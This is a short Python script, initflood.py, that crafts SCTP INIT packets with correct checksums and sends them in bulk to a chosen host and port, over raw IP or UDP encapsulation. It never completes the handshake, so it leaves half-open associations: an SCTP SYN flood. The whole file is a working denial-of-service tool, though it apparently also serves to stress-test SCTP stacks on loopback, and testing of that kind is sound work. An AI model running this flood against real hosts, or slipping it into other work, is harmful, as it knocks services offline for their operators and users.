#!/usr/bin/env python3
"""initflood.py: send SCTP INIT chunks that are never completed (the COOKIE ECHO never comes):
half-open associations, an SCTP SYN flood. Over UDP encapsulation (RFC 6951, usrsctp) or raw
IP (kernel SCTP, as root). Prints how many were sent and INIT ACKs seen.

usage: initflood.py udp HOST UDP_PORT SCTP_PORT COUNT [LOCAL_UDP_PORT]
       initflood.py raw HOST SCTP_PORT COUNT
"""
import os
import random
import select
import socket
import struct
import sys
import time


def crc32c_table():
    t = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
        t.append(c)
    return t


TABLE = crc32c_table()


def crc32c(data):
    c = 0xFFFFFFFF
    for b in data:
        c = TABLE[(c ^ b) & 0xFF] ^ (c >> 8)
    return c ^ 0xFFFFFFFF


def init_packet(sport, dport):
    tag = random.randint(1, 0xFFFFFFFF)
    # INIT: type 1, flags 0, length 20; initiate tag, a_rwnd, OS, MIS, initial TSN
    chunk = struct.pack("!BBHIIHHI", 1, 0, 20, tag, 65536, 100, 100, random.getrandbits(32))
    hdr = struct.pack("!HHII", sport, dport, 0, 0)
    pkt = hdr + chunk
    return pkt[:8] + struct.pack("<I", crc32c(pkt)) + pkt[12:]


def main():
    if len(sys.argv) < 5:
        sys.stderr.write(__doc__)
        return 2
    mode, host = sys.argv[1], sys.argv[2]
    if mode == "udp":
        udp_port, sctp_port, count = int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if len(sys.argv) > 6:
            s.bind(("127.0.0.1", int(sys.argv[6])))
        dest = (host, udp_port)
    elif mode == "raw":
        sctp_port, count = int(sys.argv[3]), int(sys.argv[4])
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 132)
        dest = (host, 0)
    else:
        sys.stderr.write(__doc__)
        return 2
    s.setblocking(False)
    sent = acks = 0
    start = time.time()
    ports = random.sample(range(1024, 65536), min(count, 64512))
    while sent < count:
        pkt = init_packet(ports[sent % len(ports)], sctp_port)
        try:
            s.sendto(pkt, dest)
            sent += 1
        except BlockingIOError:
            select.select([], [s], [], 0.01)
        # drain INIT ACKs (type 2) so the socket buffer does not fill
        while True:
            try:
                r = s.recv(65536)
            except (BlockingIOError, InterruptedError):
                break
            off = 20 if mode == "raw" else 0
            if len(r) > off + 12 and r[off + 12] == 2:
                acks += 1
        if sent % 100 == 0:
            time.sleep(0.01)  # about 10 000 a second: a flood the loopback carries
    end = time.time() + 1.0
    while time.time() < end:
        if not select.select([s], [], [], 0.1)[0]:
            continue
        try:
            r = s.recv(65536)
        except BlockingIOError:
            continue
        off = 20 if mode == "raw" else 0
        if len(r) > off + 12 and r[off + 12] == 2:
            acks += 1
    print("sent %d INITs in %.1f s, %d INIT ACKs" % (sent, time.time() - start - 1.0, acks))
    return 0


if __name__ == "__main__":
    sys.exit(main())
